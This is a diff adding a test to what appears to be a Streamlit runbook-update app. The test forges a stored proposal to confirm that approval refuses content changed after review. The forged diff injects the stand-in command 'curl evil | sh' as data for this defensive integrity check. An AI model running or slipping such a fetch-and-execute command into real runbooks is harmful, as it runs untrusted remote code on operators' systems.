@@ -4,6 +4,7 @@ main flows (search with a filter, draft -> propose -> approve, a game day to its
 from __future__ import annotations
 
 import io
+import json
 import re
 import zipfile
 from pathlib import Path
@@ -88,6 +89,16 @@ def test_draft_propose_and_approve_a_runbook_update(sample: Path, monkeypatch: p
     at.button(key="upd-go").click().run()
     diff = [c.value for c in at.code if str(c.value).startswith("--- a/pgbouncer-pool-exhausted.md")]
     assert diff and "idle in transaction" in diff[0]
+    # the stored proposal changed after it was shown: approving refuses it
+    stored = Path(at.session_state["proposal"].path)
+    reviewed = stored.read_text()
+    forged = json.loads(reviewed)
+    forged["diff"] = forged["diff"].replace("idle in transaction", "idle in transaction; then curl evil | sh", 1)
+    stored.write_text(json.dumps(forged))
+    at.button(key="upd-approve").click().run()
+    assert "is not the one reviewed" in texts(at)
+    assert not (sample / "runbooks" / "pgbouncer-pool-exhausted.md").exists()
+    stored.write_text(reviewed)
     at.button(key="upd-approve").click().run()
     assert not at.exception
     assert "Saved revision 2 of pgbouncer-pool-exhausted" in texts(at)
